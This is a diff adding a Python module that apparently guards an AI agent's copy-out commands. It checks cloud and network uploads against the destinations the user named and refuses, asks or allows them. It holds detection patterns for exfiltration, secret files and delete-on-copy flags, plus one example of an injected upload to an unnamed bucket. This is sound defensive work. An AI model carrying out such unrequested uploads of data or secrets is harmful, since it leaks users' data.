@@ -1,0 +1,237 @@
+"""Where data leaves to, against where the user said to send it (issue 10, session 10: class C1 exfil).
+
+An upload, copy or sync off the machine has a destination: a bucket, an rclone remote, a MinIO alias, another host
+(`knowledge.destinations` reads one from a word). The user's messages name destinations too ("upload the build to
+s3://acme-builds", "copy the config to web1.acme.dev", "our R2 bucket fernhollow-assets, rclone remote is
+r2-fernhollow"). Three facts, each about every copy-out program automode knows (`knowledge.sends.FORMS`: aws s3,
+gsutil, gcloud storage, azcopy, rclone, s3cmd, mc, scp, rsync) and every send the network rules see (curl/wget/httpie
+uploads, nc, scp, rsync):
+
+* the user named a destination of the kind (a bucket, a host) and the action sends somewhere else: refused, whoever
+  asked (the shape of a mistyped or injected destination: "back up to gs://dana-backup" answered with
+  `gsutil cp -r . gs://shop-archive-7731`);
+* every destination is one the user named and the user asked for a copy out: the upload ask (AM-EXFIL-004) is
+  released, unless a secret file the user did not name goes along;
+* nothing the user said asks for a copy out, and the action uploads to cloud storage that no rule objected to: asked.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Sequence
+from functools import lru_cache
+
+from automode import lazyre
+from automode.typing_lite import TYPE_CHECKING
+
+if TYPE_CHECKING:
+    from automode.analysis import Analysis
+    from automode.knowledge.destinations import Dest
+
+#: Request words that ask for data to leave to a destination (copy, upload, send, sync, back up, deploy, publish).
+SEND_WORDS = lazyre.compile(
+    r"\b(?:upload\w*|send\w*|sent|email\w*|e-mail\w*|mail|attach\w*|shar(?:e|es|ed|ing)|cop(?:y|ies|ied|ying)|"
+    r"sync\w*|rsync\w*|scp|sftp|push\w*|export\w*|back(?:ing)?\s*up|backups?|transfer\w*|submit\w*|gist|put|ship\w*|"
+    r"mirror\w*|publish\w*|post\w*|deploy\w*|releas\w*|archiv\w*|move|mv|hand\s+over|give|store|save|drop|"
+    r"replicat\w*|offload\w*|stage|host)\b", re.I)  # fmt: skip
+#: "the bucket fernhollow-assets", "rclone remote is r2-fernhollow", "container analytics-share", "the staging bucket
+#: (pinecask-storefront-staging)", "our reports bucket": storage names written in prose (a plain word names a bucket
+#: whose name holds it as a part: "staging" for `acme-site-staging`).
+_PROSE_NAME = lazyre.compile(
+    r"\b(?:bucket|container|remote|alias|share|storage\s+account|account|blob\s+container)\s+(?:is\s+|named\s+|called\s+)?"
+    r"[`'\"(]?([a-z0-9][\w.-]*[\w])|([a-z0-9][\w.-]*[\w])[`'\")]?\s+(?:bucket|container|remote|storage\s+account)\b",
+    re.I)  # fmt: skip
+#: Words a storage name in prose is not ("the team bucket", "our s3 bucket").
+_NOT_NAMES = frozenset({"the", "a", "an", "our", "my", "your", "team", "shared", "same", "new", "old", "public",
+                        "private", "s3", "gcs", "gs", "azure", "r2", "b2", "minio", "cloud", "storage", "that", "this",
+                        "its", "their", "cold", "backup", "archive", "right", "wrong", "other", "default", "is", "in",
+                        "to", "on"})  # fmt: skip
+#: Service words that name an rclone remote or a store by what it is ("my dropbox", "google drive", "the s3 bucket").
+SERVICE_WORDS: dict[str, tuple[str, ...]] = {
+    "gdrive": ("drive", "gdrive", "google drive"), "drive": ("drive",), "dropbox": ("dropbox",),
+    "onedrive": ("onedrive", "one drive"), "box": ("box",), "mega": ("mega",), "pcloud": ("pcloud",),
+    "s3": ("s3",), "gcs": ("gcs", "google cloud storage"), "b2": ("b2", "backblaze"), "r2": ("r2",),
+    "azure": ("azure", "blob"), "sftp": ("sftp",), "webdav": ("webdav",), "nextcloud": ("nextcloud",),
+}  # fmt: skip
+
+
+def outbound(a: Analysis) -> list[tuple[Dest, str]]:
+    """(destination, the command or effect that sends there) for every copy out of this machine the action makes."""
+    from automode.hosts import is_local
+    from automode.knowledge import destinations, sends
+    from automode.rules.secrets import upload
+
+    out: list[tuple[Dest, str]] = []
+    for cmd in a.commands:
+        if cmd.name not in sends.PROGRAMS:
+            continue
+        s = sends.sent(cmd)
+        if s is None or not s.dest:
+            continue
+        d = destinations.read(s.dest, cmd.name)
+        if d is None or (d.kind == "host" and (is_local(d.names[0]) or a.trusted_host(d.names[0]))):
+            continue
+        out.append((d, cmd.text or " ".join(w.value for w in cmd.argv)))
+    seen = {d.key for d, _ in out}
+    for e in a.effects:
+        if e.kind != "network" or e.origin != "send" or upload(e, a) is None:
+            continue
+        t = e.target
+        d = destinations.read(t) if "://" in t or ":" in t else destinations.host_dest(t, t)
+        if d is not None and d.key not in seen:
+            seen.add(d.key)
+            out.append((d, e.detail or t))
+    return out
+
+
+@lru_cache(maxsize=512)
+def _named(messages: tuple[str, ...]) -> tuple[tuple[Dest, ...], tuple[str, ...], str]:
+    """(destinations spelled in the messages, storage names written in prose, the lower-cased text)."""
+    from automode.knowledge.destinations import named_in
+
+    dests: list[Dest] = []
+    prose: list[str] = []
+    for m in messages:
+        text = m[:8000]
+        dests += named_in(text)
+        for g1, g2 in _PROSE_NAME.findall(text):
+            n = (g1 or g2).lower()
+            if n not in _NOT_NAMES and not n.isdigit():
+                prose.append(n)
+    return tuple(dests), tuple(dict.fromkeys(prose)), " ".join(m[:8000] for m in messages).lower()
+
+
+def _said(name: str, text: str) -> bool:
+    """`name` appears in the text as a whole word (a hyphenated host label also as words: "the ci box")."""
+    if len(name) < 2:
+        return False
+    if re.search(rf"(?<![\w.-]){re.escape(name)}(?![\w-])", text):
+        return True
+    if "-" in name:
+        spaced = re.escape(name.replace("-", " "))
+        return re.search(rf"(?<![\w-]){spaced}(?![\w-])", text) is not None
+    return False
+
+
+def _stem(word: str) -> str:
+    return word[:-1] if len(word) > 4 and word.endswith("s") and not word.endswith("ss") else word
+
+
+def _domain(host: str) -> str:
+    """The registrable part of a host name (`docs.acme.dev` -> `acme.dev`, `a.b.co.uk` -> `b.co.uk`); an address as
+    is."""
+    labels = host.split(".")
+    if len(labels) <= 2 or labels[-1].isdigit():
+        return host
+    keep = 3 if len(labels[-1]) == 2 and labels[-2] in ("co", "com", "org", "net", "ac", "gov", "edu") else 2
+    return ".".join(labels[-keep:])
+
+
+def _matches(d: Dest, named: Sequence[Dest], prose: Sequence[str], text: str) -> bool:
+    if any(n.key == d.key or (n.kind == d.kind and set(n.names[:1]) & set(d.names[:1])) for n in named):
+        return True
+    if d.kind == "host":
+        host, first = d.names[0], d.names[-1]
+        if _said(host, text) or any(n.kind == "host" and _domain(n.names[0]) == _domain(host) for n in named):
+            return True
+        # "copy it to web1", "the ci box", "staging-app-01": the host's own first label, when it is a name
+        return first != host and bool(re.search(r"[\d-]", first)) and _said(first, text)
+    for n in d.names:
+        if len(n) >= 3 and _said(n, text):
+            return True
+        parts = {_stem(x) for x in (n, *re.split(r"[-_.]+", n))}
+        if any(_stem(p) in parts for p in prose):
+            return True  # "the staging bucket" for `acme-site-staging`, "the preview bucket" for `x-previews`
+        for part in re.split(r"[-_.\d]+", n):
+            if any(_said(w, text) for w in SERVICE_WORDS.get(part, ())):
+                return True  # "my dropbox" for the remote `dropbox`, "drive" for `gdrive-personal`
+    return False
+
+
+#: Options of a copy that also delete at the destination or at the source: naming where it goes does not ask for that.
+_DELETES = lazyre.compile(r"^--(?:delete|del\b|remove|prune|purge|delete-\w+|remove-source-files|delete-unmatched)", 0)
+#: Paths a message spells (`config/api-staging.env`, `reports/weekly.pdf`, `out/summary.json`).
+_SPELLED = lazyre.compile(r"(?<![\w@:/])(?:~/|\./|/)?(?:[\w.-]+/)*[\w-]+\.[a-z0-9]{1,8}(?![\w/]|\.\w)", re.I)
+
+
+def _unsettled(a: Analysis, text: str) -> bool:
+    """Naming the destination does not settle this copy: it deletes as it copies, it carries a secret or a file from
+    outside the project the user did not name, or the user spelled the files to send and it sends another."""
+    from automode.knowledge import sends
+    from automode.paths import is_secret_path, resolve
+    from automode.rules.exfiltrate import APP_DATA, is_private_data
+
+    home, root = a.ctx.home, a.root.rstrip("/")
+    from automode.knowledge.destinations import TLDS
+
+    spelled = {m.group(0).lower().lstrip("./") for m in _SPELLED.finditer(text)
+               if "/" in m.group(0) or m.group(0).rsplit(".", 1)[-1].lower() not in TLDS}  # not a host name
+
+    def named(path: str, written: str) -> bool:
+        base = path.rsplit("/", 1)[-1].lower()
+        return written.lower().lstrip("./") in text or base in text or base.lstrip(".") in text.split()
+
+    def risky(path: str, written: str) -> bool:
+        inside = path == root or path.startswith(root + "/")
+        private = is_secret_path(path, home) or is_private_data(path, home) or bool(APP_DATA.search(path))
+        return (private or not inside) and not named(path, written)
+
+    for cmd in a.commands:
+        if cmd.name in sends.PROGRAMS and any(_DELETES.match(w.value) for w in cmd.argv[1:]):
+            return True
+    for s in sends.sends(a.commands):
+        for src in s.sources:
+            if src == "-":
+                continue
+            p = resolve(src, s.cwd or a.cwd, home)
+            if risky(p, src):
+                return True
+            low = src.lower().lstrip("./")
+            if "." in low.rsplit("/", 1)[-1] and spelled and low not in spelled and not any(
+                    low.endswith("/" + x) or x.endswith("/" + low) for x in spelled):
+                return True  # "copy config/api-staging.env" answered with config/api-prod.env
+    for e in a.effects:
+        if e.kind == "read" and e.target and e.pclass in ("secret", "home", "outside", "system") and risky(e.target, e.target):
+            return True
+    return False
+
+
+#: Rules an upload to a destination the user named settles (the upload ask); any other finding keeps its verdict.
+RELEASED_BY_NAMING = frozenset({"AM-EXFIL-004"})
+
+
+def judge(a: Analysis, verdict: str, rules: Sequence[str]) -> tuple[str, str] | None:
+    """(verdict, reason) when where the action sends data settles it, else None. `rules`: what the decision so far
+    rests on (an ask is released only when it rests on the upload ask alone)."""
+    msgs = tuple(a.ctx.user_messages)
+    if not msgs:
+        return None
+    dests = outbound(a)
+    if not dests:
+        return None
+    named, prose, text = _named(msgs)
+    unmatched = [(d, how) for d, how in dests if not _matches(d, named, prose, text)]
+    for d, _how in unmatched:
+        same = [n for n in named if n.kind == d.kind]
+        if same or (d.kind == "storage" and prose):
+            # a place spelled out (a URI, a host) is refused; a bucket called by a word in prose is asked
+            said = same[0].shown if same else prose[0]
+            return "deny" if same else "ask", (f"you named {said} as where this goes; this sends to {d.shown[:80]}, "
+                                               "which you did not name")
+    asked = SEND_WORDS.search(text) is not None
+    if not unmatched and verdict == "ask" and asked and rules and all(r in RELEASED_BY_NAMING for r in rules):
+        if _unsettled(a, text):
+            return None
+        return "allow", f"you asked for this copy and named where it goes ({dests[0][0].shown[:80]})"
+    if verdict == "allow" and unmatched and not asked and not rules:
+        d = unmatched[0][0]
+        if d.kind == "storage":
+            # a database dump or a whole directory tree sent where nobody asked is the shape of an exfiltration
+            from automode.knowledge import sends
+
+            heavy = any(e.kind == "control" and e.origin == "data" and e.verb == "read" for e in a.effects) or any(
+                s.trees for s in sends.sends(a.commands))
+            return "deny" if heavy else "ask", (f"this copies {'a database or a whole tree' if heavy else 'data'} to "
+                                                f"{d.shown[:80]}; nothing you said asks for a copy out of this machine, "
+                                                "nor names that place")
+    return None
